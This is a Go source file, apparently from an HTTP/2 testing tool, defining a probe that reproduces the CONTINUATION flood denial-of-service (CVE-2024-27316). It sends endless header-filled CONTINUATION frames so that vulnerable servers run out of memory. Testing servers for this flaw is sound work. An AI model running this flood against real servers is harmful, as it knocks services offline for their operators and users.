package probe

import "strings"

// continuationFlood reproduces the CONTINUATION flood (CVE-2024-27316 and its siblings,
// VU#421644): a HEADERS frame without END_HEADERS, then CONTINUATION frames that never end the
// block. Each carries one complete header field filling the frame, so a server that buffers or
// decodes the block without a size limit grows with every frame; the request is never
// complete, so a limit on whole header lists alone never fires.
var continuationFlood = Probe{
	Name:  "continuation-flood",
	CVE:   "CVE-2024-27316",
	Reads: true,
	flood: func(a *abuser) error {
		id := a.newStream()
		if err := a.headers(id, a.request("GET", pathSmall), true, false); err != nil {
			return err
		}
		frag := floodField(int(min(a.maxFrameSize, 16384)))
		for {
			if err := a.continuation(id, frag); err != nil {
				return err
			}
		}
	},
}

// floodField is one literal header field of size bytes, or one less where the value's length
// prefix grows by a byte (size at least a few dozen).
func floodField(size int) []byte {
	const name = "x-wirelab-flood"
	v := size - literalSize(len(name), 0)
	for v > 0 && literalSize(len(name), v) > size {
		v--
	}
	return appendLiteral(nil, name, strings.Repeat("a", v))
}
